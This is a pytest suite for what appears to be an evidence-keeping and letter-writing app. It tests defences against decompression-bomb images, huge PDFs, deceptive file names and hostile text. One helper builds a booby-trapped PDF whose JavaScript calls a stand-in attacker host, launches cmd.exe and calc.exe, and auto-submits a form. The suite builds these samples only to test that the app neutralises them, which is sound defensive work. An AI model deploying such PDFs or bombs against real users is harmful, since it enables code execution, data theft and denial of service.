"""Hostile and odd input: files built to exhaust memory or time, PDFs that try to run code,
names built to mislead, and anything at all typed into a letter, a date or a search.

Each limit must hold without a hang (pytest-timeout enforces the budget) or a crash.
"""

from __future__ import annotations

import datetime as dt
import hashlib
import io
import os
import re
import struct
import tempfile
import tracemalloc
import unicodedata
import zlib
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any, Final

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    IndirectObject,
    NameObject,
    NumberObject,
    TextStringObject,
)
from reportlab.lib.styles import ParagraphStyle
from reportlab.pdfgen.canvas import Canvas
from reportlab.platypus import Paragraph

from core import evidence_store
from core.cases import create_case
from core.database import Store
from core.dates import parse_day, parse_moment
from core.errors import StorageError
from core.evidence import attach_evidence, evidence_path
from core.evidence_store import CHUNK_SIZE, EvidenceFiles
from core.filenames import display_name, safe_filename
from core.interactions import add_interaction
from core.letters.draft import Enclosure
from core.letters.enclosures import Problem, prepare
from core.letters.kinds import LetterKind
from core.letters.layout import markup
from core.letters.options import LetterOptions
from core.letters.service import make_letter
from core.media_types import JPEG, PDF, PNG
from core.model import Channel, Direction, Jurisdiction, Language, Moment, PromiseStatus
from core.promises import add_promise, settle_promise
from core.search import search

TWO_GIB: Final = 2 * 1024**3
TWO_GIB_OF_ZEROS_SHA256: Final = "a7c744c13cc101ed66c29f672f92455547889cc586ce6d44fe76ae824958ea51"
ACTIVE_PDF_NAMES: Final = frozenset(
    {"/JavaScript", "/JS", "/OpenAction", "/Launch", "/AA", "/SubmitForm", "/ImportData"}
)
ENCLOSURE = Enclosure(number=1, evidence_id=1, title="Pièce")


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(path: Path, width: int, height: int, *, rows: int | None = None) -> Path:
    """A grey PNG of `width` x `height` whose pixel data is all zeros, compressed about a
    thousand to one; `rows` writes only that many rows (the header still claims them all)."""
    compressor = zlib.compressobj(9)
    row = b"\0" * (width + 1)
    data = b"".join(compressor.compress(row) for _ in range(height if rows is None else rows))
    data += compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    path.write_bytes(
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", data)
        + _png_chunk(b"IEND", b"")
    )
    return path


def jpeg_claiming(path: Path, width: int, height: int) -> Path:
    """A real 16 x 16 JPEG whose frame header is rewritten to claim `width` x `height`."""
    buffer = io.BytesIO()
    Image.new("RGB", (16, 16), "red").save(buffer, format="JPEG")
    data = bytearray(buffer.getvalue())
    frame = data.index(b"\xff\xc0")
    data[frame + 5 : frame + 9] = struct.pack(">HH", height, width)
    path.write_bytes(bytes(data))
    return path


def pdf_with_pages(path: Path, count: int) -> Path:
    """A valid PDF of `count` blank pages, written directly (pypdf takes seconds for this)."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    kids = " ".join(f"{number} 0 R" for number in range(3, count + 3))
    objects.append(f"<< /Type /Pages /Count {count} /Kids [{kids}] >>".encode())
    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"] * count
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\n".encode()
    out += f"startxref\n{xref}\n%%EOF\n".encode()
    path.write_bytes(bytes(out))
    return path


@pytest.mark.timeout(30)
def test_a_decompression_bomb_png_is_refused_as_an_enclosure(tmp_path: Path) -> None:
    bomb = png_bomb(tmp_path / "photo.png", 8000, 8000)
    assert bomb.stat().st_size < 200_000, "a real bomb: 64 million pixels in a few kilobytes"
    prepared = prepare(ENCLOSURE, bomb, PNG, "0" * 64)
    assert prepared.problem is Problem.DAMAGED and not prepared.appended


@pytest.mark.timeout(30)
@pytest.mark.parametrize("side", [30_000, 100_000])
def test_a_png_claiming_billions_of_pixels_is_refused(tmp_path: Path, side: int) -> None:
    bomb = png_bomb(tmp_path / "scan.png", side, side, rows=2)
    assert prepare(ENCLOSURE, bomb, PNG, "0" * 64).problem is Problem.DAMAGED


@pytest.mark.timeout(30)
def test_a_jpeg_claiming_huge_dimensions_is_refused(tmp_path: Path) -> None:
    huge = jpeg_claiming(tmp_path / "photo.jpg", 65_000, 65_000)
    with Image.open(jpeg_claiming(tmp_path / "check.jpg", 640, 480)) as check:
        assert check.size == (640, 480), "the rewritten header is what Pillow reads"
    assert prepare(ENCLOSURE, huge, JPEG, "0" * 64).problem is Problem.DAMAGED


def test_a_cut_off_photo_or_pdf_is_listed_as_damaged_and_a_lost_file_as_missing(
    tmp_path: Path,
) -> None:
    """The letter says why an enclosure is not attached: a file the phone cut short is
    damaged, not missing."""
    buffer = io.BytesIO()
    Image.new("RGB", (400, 300), (200, 10, 10)).save(buffer, "JPEG")
    photo = tmp_path / "colis.jpg"
    photo.write_bytes(buffer.getvalue()[: len(buffer.getvalue()) // 2])
    invoice = tmp_path / "facture.pdf"
    invoice.write_bytes(pdf_with_pages(tmp_path / "whole.pdf", 2).read_bytes()[:300])
    assert prepare(ENCLOSURE, photo, JPEG, "0" * 64).problem is Problem.DAMAGED
    assert prepare(ENCLOSURE, invoice, PDF, "0" * 64).problem is Problem.DAMAGED
    assert prepare(ENCLOSURE, tmp_path / "gone.jpg", JPEG, "0" * 64).problem is Problem.MISSING


@pytest.mark.timeout(30)
def test_a_ten_thousand_page_pdf_is_refused_as_an_enclosure(tmp_path: Path) -> None:
    document = pdf_with_pages(tmp_path / "releves.pdf", 10_000)
    assert len(PdfReader(document).pages) == 10_000
    prepared = prepare(ENCLOSURE, document, PDF, "0" * 64)
    assert prepared.problem is Problem.TOO_MANY_PAGES and not prepared.appended


def _action(kind: str, **entries: Any) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = value
    return action


def active_pdf(path: Path) -> Path:
    """An invoice that tries everything: JavaScript on open, in the name tree, on page open,
    in links and widgets; a Launch of a program; a form that submits itself."""
    buffer = io.BytesIO()
    canvas = Canvas(buffer)
    canvas.drawString(72, 700, "FACTURE PIEGEE 42")
    canvas.save()
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(buffer.getvalue())))
    script = TextStringObject("app.alert('pwned'); app.launchURL('http://attacker.example')")
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {
            NameObject("/JavaScript"): DictionaryObject(
                {
                    NameObject("/Names"): ArrayObject(
                        [TextStringObject("print"), _action("/JavaScript", JS=script)]
                    )
                }
            )
        }
    )
    writer._root_object[NameObject("/OpenAction")] = _action("/JavaScript", JS=script)
    writer._root_object[NameObject("/AA")] = DictionaryObject(
        {NameObject("/WC"): _action("/JavaScript", JS=script)}
    )
    page = writer.pages[0]
    page[NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): _action("/Launch", F=TextStringObject("calc.exe"))}
    )
    rect = ArrayObject([NumberObject(n) for n in (0, 0, 600, 800)])
    annotations = ArrayObject()
    for action in (
        _action("/Launch", F=TextStringObject("cmd.exe")),
        _action("/JavaScript", JS=script),
        _action("/SubmitForm", F=TextStringObject("http://attacker.example/form")),
    ):
        annotation = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/Rect"): rect,
                NameObject("/A"): action,
                NameObject("/AA"): DictionaryObject({NameObject("/E"): action}),
            }
        )
        annotations.append(writer._add_object(annotation))
    page[NameObject("/Annots")] = annotations
    with path.open("wb") as handle:
        writer.write(handle)
    return path


def _names_in(reader: PdfReader) -> Iterator[str]:
    """Every dictionary key and name value reachable from the trailer, each object once."""
    seen: set[tuple[int, int]] = set()
    stack: list[Any] = [reader.trailer]
    while stack:
        item = stack.pop()
        if isinstance(item, IndirectObject):
            if (item.idnum, item.generation) in seen:
                continue
            seen.add((item.idnum, item.generation))
            stack.append(item.get_object())
        elif isinstance(item, dict):
            yield from (str(key) for key in item)
            stack.extend(item.values())
        elif isinstance(item, list):
            stack.extend(item)
        elif isinstance(item, NameObject):
            yield str(item)


@pytest.mark.timeout(60)
def test_a_pdf_that_tries_to_run_code_is_enclosed_inert(store: Store, tmp_path: Path) -> None:
    hostile = active_pdf(tmp_path / "facture.pdf")
    assert set(_names_in(PdfReader(hostile))) >= ACTIVE_PDF_NAMES - {"/ImportData"}
    case = create_case(store, title="Facture piégée", counterparty="Vendeur")
    evidence = attach_evidence(store, case_id=case.id, source=hostile).evidence
    promise = add_promise(store, case_id=case.id, text="Rembourser")
    settle_promise(
        store, promise_id=promise.id, status=PromiseStatus.BROKEN, by_evidence_id=evidence.id
    )
    out = tmp_path / "lettre.pdf"
    rendered = make_letter(
        store,
        case_id=case.id,
        options=LetterOptions(
            kind=LetterKind.COMPLAINT,
            language=Language.FR,
            jurisdiction=Jurisdiction.FR,
            letter_date=dt.date(2026, 11, 26),
        ),
        destination=out,
    )
    assert rendered.pages > rendered.letter_pages, "the invoice itself is enclosed"
    reader = PdfReader(out)
    assert "FACTURE PIEGEE 42" in "".join(page.extract_text() for page in reader.pages)
    assert set(_names_in(reader)) & ACTIVE_PDF_NAMES == set()
    raw = out.read_bytes()
    for name in ("/JavaScript", "/OpenAction", "/Launch", "/AA", "/JS"):
        assert re.search(re.escape(name.encode()) + rb"[\s/<>\[\]()]", raw) is None, name


class CountingSink:
    """Stands in for the stored copy: counts what would be written, keeps none of it."""

    def __init__(self, descriptor: int) -> None:
        self.descriptor, self.written = descriptor, 0

    def __enter__(self) -> CountingSink:
        return self

    def __exit__(self, *exc: object) -> None:
        os.close(self.descriptor)

    def write(self, data: bytes) -> int:
        self.written += len(data)
        return len(data)

    def flush(self) -> None:
        return None

    def fileno(self) -> int:
        return self.descriptor


@pytest.mark.slow
@pytest.mark.timeout(180)
def test_a_two_gigabyte_file_streams_through_in_bounded_memory(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """No size cap: a long video of a delivery is evidence too. The file is read, hashed and
    written one chunk at a time, so memory stays at a few chunks whatever the size. (The copy
    itself goes to a counting sink here, to spare the shared disk 2 GB of writes.)"""
    sparse = tmp_path / "video-livraison.mp4"
    with sparse.open("wb") as handle:
        handle.truncate(TWO_GIB)
    sinks: list[CountingSink] = []

    def sink(descriptor: int, mode: str) -> CountingSink:
        sinks.append(CountingSink(descriptor))
        return sinks[-1]

    monkeypatch.setattr(evidence_store.os, "fdopen", sink)
    files = EvidenceFiles(tmp_path / "store")
    tracemalloc.start()
    try:
        stored = files.ingest(sparse)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert stored.size == TWO_GIB == sinks[0].written
    assert stored.sha256 == TWO_GIB_OF_ZEROS_SHA256
    assert peak < 3 * CHUNK_SIZE, f"peak {peak} bytes for a 2 GB file"


def test_a_two_gigabyte_file_without_room_for_it_is_refused_before_copying(
    store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    sparse = tmp_path / "video.mp4"
    with sparse.open("wb") as handle:
        handle.truncate(TWO_GIB)
    monkeypatch.setattr(
        evidence_store.shutil, "disk_usage", lambda path: SimpleNamespace(free=TWO_GIB)
    )
    case = create_case(store, title="Livraison", counterparty="Transporteur")
    with pytest.raises(StorageError) as raised:
        attach_evidence(store, case_id=case.id, source=sparse)
    assert raised.value.message_id == "error.disk_full"
    assert EvidenceFiles(store.evidence_dir).stored_hashes() == set()


HOSTILE_NAMES: Final = (
    "facture\u202efdp.exe",
    "CON",
    "con.pdf",
    "LPT1.txt",
    "bell\x07and\x1b[31mred\x1b[0m.pdf",
    "line\nbreak\ttab.pdf",
    "Cafe\u0301 cre\u0300me.pdf",
    "\u2066isolated\u2069 name.pdf",
    "zero\u200bwidth\ufeff.pdf",
    "trailing dot.",
    "  spaces around  .pdf",
    "x" * 251 + ".pdf",
    "é" * 125 + ".pdf",
    "請求書" * 27 + ".pdf",
    "..",
)
_INVISIBLE = {"Cc", "Cf", "Zl", "Zp"}


def _is_safe_everywhere(name: str) -> bool:
    stem = name.split(".", 1)[0].upper()
    return (
        bool(name)
        and not re.search(r'[<>:"/\\|?*]', name)
        and not any(unicodedata.category(char) in _INVISIBLE for char in name)
        and name == name.strip(" .")
        and stem not in {"CON", "PRN", "AUX", "NUL", *(f"COM{n}" for n in range(1, 10))}
        and stem not in {f"LPT{n}" for n in range(1, 10)}
        and len(name.encode("utf-8")) <= 255
        and len(name.encode("utf-16-le")) // 2 <= 255
    )


@pytest.mark.parametrize("name", HOSTILE_NAMES[:-1])
def test_hostile_file_names_are_recorded_clean_and_saved_safely(
    store: Store, tmp_path: Path, name: str
) -> None:
    source = tmp_path / "incoming" / name
    source.parent.mkdir()
    source.write_bytes(f"contenu de {name!r}".encode())
    case = create_case(store, title="Noms", counterparty="Expéditeur")
    recorded = attach_evidence(store, case_id=case.id, source=source).evidence.original_name
    assert recorded == unicodedata.normalize("NFC", recorded)
    assert not any(unicodedata.category(char) in _INVISIBLE for char in recorded)
    assert "\u202e" not in recorded and len(recorded) <= 180
    saved_as = safe_filename(recorded)
    assert _is_safe_everywhere(saved_as), saved_as
    target = tmp_path / "out"
    target.mkdir()
    (target / saved_as).write_bytes(b"copy")
    assert [entry.name for entry in target.iterdir()] == [saved_as]


def test_nfd_and_nfc_spellings_of_a_name_are_the_same_label() -> None:
    assert display_name("Cafe\u0301.pdf") == display_name("Café.pdf") == "Café.pdf"


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    name=st.one_of(
        st.text(max_size=400),
        st.text(st.characters(min_codepoint=0x800, exclude_categories=("Cs",)), min_size=90),
    )
)
def test_any_name_becomes_one_file_name_every_system_accepts(name: str) -> None:
    saved_as = safe_filename(name)
    assert _is_safe_everywhere(saved_as), saved_as
    assert safe_filename(saved_as) == saved_as
    with tempfile.TemporaryDirectory() as folder:
        (Path(folder) / saved_as).write_bytes(b"x")
        assert [entry.name for entry in Path(folder).iterdir()] == [saved_as]


_STYLE = ParagraphStyle("probe", fontName="Helvetica", fontSize=10)


@settings(max_examples=300, deadline=None)
@given(text=st.text(st.characters(exclude_categories=("Cs", "Cc")), max_size=200))
def test_any_text_is_printed_as_typed_never_read_as_markup(text: str) -> None:
    shown = Paragraph(markup(text), _STYLE).getPlainText()
    assert "".join(shown.split()) == "".join(text.split())


_LETTER_TEXT = st.text(
    st.characters(
        codec="latin-1", exclude_categories=("Cc", "Cs", "Zs", "Zl", "Zp", "Mn", "Cf")
    ).filter(lambda char: char not in "\u00ad"),
    min_size=1,
    max_size=40,
)


@pytest.fixture(scope="module")
def letter_store(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
    from core.datadir import prepare_data_dir

    with Store.open(prepare_data_dir(tmp_path_factory.mktemp("letters") / "data")) as opened:
        create_case(opened, title="Propriété", counterparty="Société")
        yield opened


@pytest.mark.slow
@settings(max_examples=12, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(words=st.lists(_LETTER_TEXT, min_size=1, max_size=4))
def test_any_summary_prints_in_the_letter_and_reads_back(
    letter_store: Store, tmp_path_factory: pytest.TempPathFactory, words: list[str]
) -> None:
    summary = " ".join(words)
    interaction = add_interaction(
        letter_store,
        case_id=1,
        occurred=Moment.parse("2026-11-01"),
        channel=Channel.EMAIL,
        direction=Direction.INBOUND,
        summary=summary,
    )
    out = tmp_path_factory.mktemp("letter") / "lettre.pdf"
    make_letter(
        letter_store,
        case_id=1,
        options=LetterOptions(
            kind=LetterKind.COMPLAINT,
            language=Language.FR,
            jurisdiction=Jurisdiction.FR,
            letter_date=dt.date(2026, 11, 26),
        ),
        destination=out,
    )
    text = "".join("".join(page.extract_text().split()) for page in PdfReader(out).pages)
    assert "".join(summary.split()) in text
    letter_store.conn.execute("DELETE FROM interactions WHERE id = ?", [interaction.id])


@given(day=st.dates(min_value=dt.date(1000, 1, 1), max_value=dt.date(9999, 12, 31)))
def test_a_day_typed_the_french_way_reads_back(day: dt.date) -> None:
    today = dt.date(2026, 11, 26)
    for typed in (f"{day.day}/{day.month}/{day.year}", f"{day.day:02d}.{day.month:02d}.{day.year}"):
        assert parse_day(typed, today=today) == day


@given(
    count=st.integers(min_value=0, max_value=3000),
    template=st.sampled_from(["in {n} days", "dans {n} jours", "+{n} days", "{n} days ago"]),
)
def test_a_delay_typed_in_words_counts_from_today(count: int, template: str) -> None:
    today = dt.date(2026, 11, 26)
    sign = -1 if "ago" in template else 1
    assert parse_day(template.format(n=count), today=today) == today + dt.timedelta(
        days=sign * count
    )


@given(
    day=st.dates(min_value=dt.date(1000, 1, 1), max_value=dt.date(9999, 12, 31)),
    hour=st.integers(0, 23),
    minute=st.integers(0, 59),
    separator=st.sampled_from([" ", "T", " at ", " à "]),
)
def test_a_day_and_time_typed_reads_back(
    day: dt.date, hour: int, minute: int, separator: str
) -> None:
    typed = f"{day.isoformat()}{separator}{hour}:{minute:02d}"
    moment = parse_moment(typed, now=dt.datetime(2026, 11, 26, 9, 0))
    assert moment == Moment(day, dt.time(hour, minute))


_SYNTAX = st.sampled_from(['"', "'", "*", "-", "+", "(", ")", ":", "^", "{", "}", ",", "."])
_WORD = st.text(st.sampled_from("abcdefghijklmnopqrstuvwxyzéèàçôü"), min_size=3, max_size=12)


@pytest.fixture(scope="module")
def search_store() -> Iterator[Store]:
    with Store.in_memory() as opened:
        create_case(opened, title="Recherche", counterparty="Société")
        yield opened


@settings(max_examples=150, deadline=None)
@given(word=_WORD, before=st.lists(_SYNTAX, max_size=3), after=st.lists(_SYNTAX, max_size=3))
def test_a_word_wrapped_in_query_syntax_still_finds_what_holds_it(
    search_store: Store, word: str, before: list[str], after: list[str]
) -> None:
    interaction = add_interaction(
        search_store,
        case_id=1,
        occurred=Moment.parse("2026-11-01"),
        channel=Channel.PHONE,
        direction=Direction.OUTBOUND,
        summary=f"Appel zq{word}",
    )
    typed = "".join(before) + f"zq{word}" + "".join(after)
    try:
        found = {hit.item_id for hit in search(search_store, typed)}
        assert interaction.id in found, typed
    finally:
        search_store.conn.execute("DELETE FROM interactions WHERE id = ?", [interaction.id])


def test_stored_copies_of_hostile_files_are_the_files_themselves(
    store: Store, tmp_path: Path
) -> None:
    bomb = png_bomb(tmp_path / "photo.png", 8000, 8000)
    case = create_case(store, title="Bombe", counterparty="Expéditeur")
    evidence = attach_evidence(store, case_id=case.id, source=bomb).evidence
    assert evidence.media_type == PNG
    stored = evidence_path(store, evidence)
    assert hashlib.sha256(stored.read_bytes()).hexdigest() == evidence.sha256
